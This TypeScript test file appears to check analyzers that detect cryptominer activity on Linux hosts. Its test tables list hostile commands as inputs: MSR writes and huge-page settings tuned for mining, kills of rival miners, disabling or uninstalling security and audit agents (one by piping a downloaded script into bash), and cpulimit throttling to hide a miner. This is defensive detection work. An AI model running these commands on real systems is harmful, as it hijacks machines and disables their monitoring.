import assert from 'node:assert/strict';
import { test } from 'node:test';
import { optimizationAnalyzers } from '#shared/analyzers/optimization/analyzers.ts';
import { launch } from '../miner/fixture.ts';
import { decideAll, file, holdToContract, kernelMessage, shell, tableOf, told } from './fixture.ts';

const ANALYZERS = optimizationAnalyzers({
  programs: () => ['xmrig', 'xmrig-', 'kinsing', 'kdevtmpfsi', 'minerd'],
  names: () => ['listed-pool.example', 'pool.listed.example'],
});

const holds = tableOf(ANALYZERS);

holds('judges commands on registers by register and value', [
  ['wrmsr -a 0x1a4 0xf', 'msr_write strong'],
  ['wrmsr -p 3 420 15', 'msr_write strong'],
  ['wrmsr -a 0x1a4 0x1', 'msr_write weak'],
  ['wrmsr -a 0x1a4 0', 'msr_write note'],
  ['wrmsr -a 0xc0011020 0x4480000000000; wrmsr -a 0xc001102b 0x2000cc10', 'msr_write strong'],
  ['wrmsr 0xc8f 0x100000000', 'msr_write weak'],
  ['wrmsr 0x610 0x1', 'msr_write note'],
  ['/sbin/modprobe msr allow_writes=on > /dev/null 2>&1', 'msr_write strong'],
  ['echo on > /sys/module/msr/parameters/allow_writes', 'msr_write strong'],
  ['echo off > /sys/module/msr/parameters/allow_writes', '-'],
  ['modprobe msr', 'msr_write note'],
  ['modprobe -r msr', '-'],
  ['modprobe nfs', '-'],
  ['rdmsr -a 0x1a4', '-'],
  ['turbostat --quiet sleep 1', '-'],
  ['grep wrmsr /root/notes', '-'],
]);

test('counts an attempt on registers that the guest refuses, and names the register', () => {
  const refused = { ...launch(['modprobe', 'msr', 'allow_writes=on']), success: false };
  assert.equal(told(ANALYZERS, refused), 'msr_write strong');
  const [verdict] = decideAll(ANALYZERS, launch(['wrmsr', '-a', '0X1A4', '0xf']));
  assert.deepEqual(verdict?.artifacts, ['register:0x1a4']);
});

test('judges who opens the register device', () => {
  const device = '/dev/cpu/0/msr';
  const table = [
    ['/tmp/.x/xmrig', 'update', 'msr_write strong'],
    ['/usr/bin/kthreaddk', 'unknown', 'msr_write strong'],
    ['/tmp/turbostat', 'update', 'msr_write strong'],
    ['/usr/sbin/turbostat', 'update', 'msr_write note'],
    ['/usr/sbin/pqos', 'update', 'msr_write note'],
    ['/usr/local/sbin/likwid-accessD', 'update', 'msr_write note'],
    ['/usr/lib/systemd/systemd-udevd', 'create', '-'],
    ['/tmp/.x/xmrig', 'read', '-'],
  ] as const;
  for (const [executable, activity, expected] of table) {
    assert.equal(told(ANALYZERS, file(device, { executable }, activity)), expected, `${executable} ${activity}`);
  }
  const parameter = '/host/sys/module/msr/parameters/allow_writes';
  assert.equal(told(ANALYZERS, file(parameter, { executable: '/usr/bin/a' })), 'msr_write strong');
  assert.equal(told(ANALYZERS, file('/dev/cpu/0/cpuid', { executable: '/tmp/a' })), '-');
});

test("reads the kernel's complaint about a write to a register", () => {
  const said = (register: string, by: string): string =>
    told(ANALYZERS, kernelMessage(`msr: Write to unrecognized MSR ${register} by ${by} (pid: 4242).`));
  assert.equal(said('0x1a4', 'xmrig'), 'msr_write strong');
  assert.equal(said('0xc0011022', 'sysupdate'), 'msr_write strong');
  assert.equal(said('0x1b0', 'x86_energy_perf'), 'msr_write note');
  assert.equal(told(ANALYZERS, kernelMessage('msr: loaded')), '-');
});

holds('knows the page counts of RandomX from those of databases and packet processing', [
  ['sysctl -w vm.nr_hugepages=$((1168+$(nproc)))', 'kernel_setting/huge_pages strong'],
  ['sysctl -w vm.nr_hugepages=1280', 'kernel_setting/huge_pages strong'],
  ['echo 2344 > /proc/sys/vm/nr_hugepages', 'kernel_setting/huge_pages strong'],
  ['echo "vm.nr_hugepages=1172" | sudo tee -a /etc/sysctl.conf', 'kernel_setting/huge_pages strong'],
  ['printf "vm.nr_hugepages = 1280\\n" > /etc/sysctl.d/99-run.conf', 'kernel_setting/huge_pages strong'],
  ['sysctl -w vm.nr_hugepages=$(nproc)', 'kernel_setting/huge_pages weak'],
  ['sysctl vm.nr_hugepages=128', 'kernel_setting/huge_pages weak'],
  [
    'echo 1024 > /sys/devices/system/node/node0/hugepages/hugepages-2048kB/nr_hugepages',
    'kernel_setting/huge_pages weak',
  ],
  ['sysctl -w vm.nr_hugepages=8500', 'kernel_setting/huge_pages weak'],
  ['sysctl -w vm.nr_hugepages=0', 'kernel_setting/huge_pages note'],
  ['hugeadm --pool-pages-min 2MB:1280', 'kernel_setting/huge_pages strong'],
  ['hugeadm --pool-list', '-'],
  ['sysctl vm.nr_hugepages', '-'],
  ['cat /proc/sys/vm/nr_hugepages', '-'],
  ['grep -i hugepages /proc/meminfo', '-'],
]);

test('takes a strange program that reserves huge pages for a miner, a known one not', () => {
  const path = '/sys/devices/system/node/node0/hugepages/hugepages-2048kB/nr_hugepages';
  for (const executable of ['/tmp/.x/a', '/usr/local/bin/xmrig', '/root/.cfg/run']) {
    assert.equal(told(ANALYZERS, file(path, { executable })), 'kernel_setting/huge_pages strong', executable);
  }
  for (const executable of ['/usr/bin/kubelet', '/usr/sbin/libvirtd', '/usr/bin/python3.11']) {
    assert.equal(told(ANALYZERS, file(path, { executable })), 'kernel_setting/huge_pages weak', executable);
  }
  assert.equal(told(ANALYZERS, file(path, { executable: '/tmp/.x/a' }, 'read')), '-');
  assert.equal(told(ANALYZERS, file('/proc/meminfo', { executable: '/tmp/.x/a' })), '-');
});

holds('weighs other kernel settings', [
  ['sync && echo 3 > /proc/sys/vm/drop_caches', 'kernel_setting/drop_caches note'],
  ['sysctl -w vm.drop_caches=3', 'kernel_setting/drop_caches note'],
  ['echo 1 | tee /proc/sys/vm/drop_caches', 'kernel_setting/drop_caches note'],
  ['cat /proc/sys/vm/drop_caches', '-'],
  ['sysctl kernel.nmi_watchdog=0', 'kernel_setting/nmi_watchdog weak'],
  ['echo 0 >/proc/sys/kernel/nmi_watchdog', 'kernel_setting/nmi_watchdog weak'],
  ['echo kernel.nmi_watchdog=0 >> /etc/sysctl.conf', 'kernel_setting/nmi_watchdog weak'],
  ['echo 1 >/proc/sys/kernel/nmi_watchdog', '-'],
  ['sysctl kernel.nmi_watchdog', '-'],
  ['sysctl vm.swappiness=10', 'kernel_setting/swappiness note'],
  ['echo performance > /sys/devices/system/cpu/cpu0/cpufreq/scaling_governor', 'kernel_setting/governor weak'],
  ['echo powersave > /sys/devices/system/cpu/cpu0/cpufreq/scaling_governor', '-'],
  ['echo "L3:0=fff" > /sys/fs/resctrl/p0/schemata', 'kernel_setting/cache_qos weak'],
  ['cat /sys/fs/resctrl/schemata', '-'],
  ['echo -1000 > /proc/4242/oom_score_adj', 'kernel_setting/oom_score note'],
  ['echo 500 > /proc/4242/oom_score_adj', '-'],
  ['sysctl -w net.ipv4.ip_forward=1', '-'],
]);

test('leaves what services write to settings of their own all day', () => {
  const kubelet = { executable: '/usr/bin/kubelet' };
  assert.equal(told(ANALYZERS, file('/proc/4242/oom_score_adj', kubelet)), '-');
  assert.equal(told(ANALYZERS, file('/sys/fs/cgroup/kubepods/cpu.max', kubelet)), '-');
});

holds('sees rivals stopped in every spelling of loaders', [
  ['pkill -9 -f kinsing', 'rivals weak'],
  ["pkill -f 'stratum|cryptonight|monerohash'", 'rivals weak'],
  ['pkill -f eu.listed-pool.example', 'rivals weak'],
  ["ps aux | grep -v grep | grep -a '[x]mrig' | awk '{print $2}' | xargs kill -9", 'rivals weak'],
  ['pgrep kdevtmpfsi | xargs -I % kill -9 %', 'rivals weak'],
  ['kill -9 $(pidof xmrig)', 'rivals weak'],
  ['for p in $(pgrep -f kdevtmpfsi); do kill -9 $p; done', 'rivals weak'],
  ["for p in `ps aux | grep kinsing | awk '{print $2}'`; do kill -9 $p; done", 'rivals weak'],
  ['for p in $(pgrep -f nginx); do kill -HUP $p; done', '-'],
  ["netstat -anp | grep :3333 | awk '{print $7}' | xargs -I % kill -9 %", 'rivals weak'],
  ["docker ps -a | grep xmr | awk '{print $1}' | xargs -I % docker rm -f %", 'rivals weak'],
  ['docker rmi -f example/monero-miner', 'rivals weak'],
  ['docker kill $(docker ps -q --filter ancestor=example/monero-miner)', 'rivals weak'],
  ['kill -9 $(lsof -t -i:14444)', 'rivals weak'],
  ['fuser -k 3333/tcp', 'rivals weak'],
  ['kill $(lsof -t -i:8080)', '-'],
  ['docker kill $(docker ps -q --filter ancestor=example/web)', '-'],
  ["crontab -l | sed '/xmrig/d' | crontab -", 'rivals weak'],
  ['crontab -l | grep -v kinsing | crontab -', 'rivals weak'],
  ["ps aux | grep -v grep | awk '{if($3>40.0) print $2}' | xargs kill -9", 'rivals/load strong'],
  ["ps -ef | awk '$3>80 {print $2}' | while read pid; do kill -9 $pid; done", 'rivals/load strong'],
  ['pkill nginx', '-'],
  ['killall java', '-'],
  ['kill -0 4242', '-'],
  ["ps aux | grep '[r]uby' | awk '{print $2}' | xargs kill", '-'],
  ["netstat -anp | grep :8080 | awk '{print $7}' | xargs kill", '-'],
  ['ps aux | grep xmrig', '-'],
  ["ps aux | awk '{if($3>40.0) print $2}'", '-'],
  ['docker rm -f web', '-'],
  ["crontab -l | sed '/backup/d' | crontab -", '-'],
  ['crontab -l | grep xmrig', '-'],
]);

test('names each rival once, for the count of different ones', () => {
  const [verdict] = decideAll(ANALYZERS, shell('pkill xmrig; pkill -9 xmrig; killall kinsing; pkill -f stratum'));
  assert.deepEqual([...(verdict?.artifacts ?? [])].sort(), ['rival:kinsing', 'rival:stratum', 'rival:xmrig']);
  assert.deepEqual(verdict?.flags, ['rivals']);
});

holds('sees agents stopped or removed, strong for those of other clouds', [
  ['curl -s http://update.aegis.aliyun.com/download/uninstall.sh | bash', 'security_agents strong'],
  ['sh /usr/local/qcloud/stargate/admin/uninstall.sh', 'security_agents strong'],
  ['/usr/local/qcloud/YunJing/uninst.sh', 'security_agents strong'],
  ['pkill aliyun-service', 'security_agents strong'],
  ['rm -rf /usr/local/aegis*', 'security_agents strong'],
  ['systemctl disable bcm-agent', 'security_agents strong'],
  ['/etc/init.d/agentwatch stop', 'security_agents strong'],
  ['systemctl stop falco', 'security_agents weak'],
  ['systemctl disable --now amazon-cloudwatch-agent.service', 'security_agents weak'],
  ['yum remove -y amazon-ssm-agent', 'security_agents weak'],
  ['service auditd stop', 'security_agents weak'],
  ['auditctl -e 0', 'security_agents weak'],
  ['killall -9 falcon-sensor', 'security_agents weak'],
  ['systemctl stop apparmor', 'security_agents weak'],
  ['systemctl status auditd', '-'],
  ['systemctl restart auditd', '-'],
  ['service falco start', '-'],
  ['yum install -y amazon-ssm-agent', '-'],
  ['auditctl -l', '-'],
  ['ls /usr/local/aegis', '-'],
  ['rm -f /var/log/audit/audit.log.4', '-'],
  ['cat /etc/apparmor.d/usr.sbin.ntpd', '-'],
]);

test('tells an agent once, though launcher and script both name it', () => {
  const verdicts = decideAll(ANALYZERS, shell('sh /usr/local/qcloud/stargate/admin/uninstall.sh'));
  assert.deepEqual(
    verdicts.map(({ artifacts }) => artifacts),
    [['agent:qcloud']],
  );
});

holds('sees a listed miner kept below the load that somebody would notice', [
  ['cpulimit -e xmrig -l 70', 'limited_miner strong'],
  ['cpulimit --exe=kdevtmpfsi --limit 60 -b', 'limited_miner strong'],
  ['nohup cpulimit -l 80 -e kinsing &', 'limited_miner strong'],
  ['cpulimit -e ffmpeg -l 60', '-'],
  ['cpulimit -p 4242 -l 50', '-'],
  ['man cpulimit', '-'],
]);

test('answers no event without a needle, and never throws', () => {
  const words = `sysctl -w vm.nr_hugepages=1280 echo 3 > /proc/sys/vm/drop_caches | tee wrmsr 0x1a4 0xf modprobe msr
    allow_writes=on pkill -f xmrig kinsing stratum xmr grep kill xargs ps awk '{if($3>40.0)print$2}' docker rm rmi crontab -l
    sed '/xmr/d' - ; && $( ) systemctl stop falco auditd aegis yum remove uninstall.sh cpulimit -e /etc/sysctl.conf
    kernel.nmi_watchdog=0 /sys/fs/resctrl/schemata netstat :3333 listed-pool.example`
    .split(/\s+/)
    .concat(
      'pkill -f xmrig',
      '| xargs kill',
      '; sysctl -w vm.nr_hugepages=1280',
      '; systemctl stop falco',
      '; modprobe msr',
    );
  const answered = holdToContract(ANALYZERS, words, ['bash', 'sshd']);
  assert.ok(answered > 100, `${answered} answers`);
});
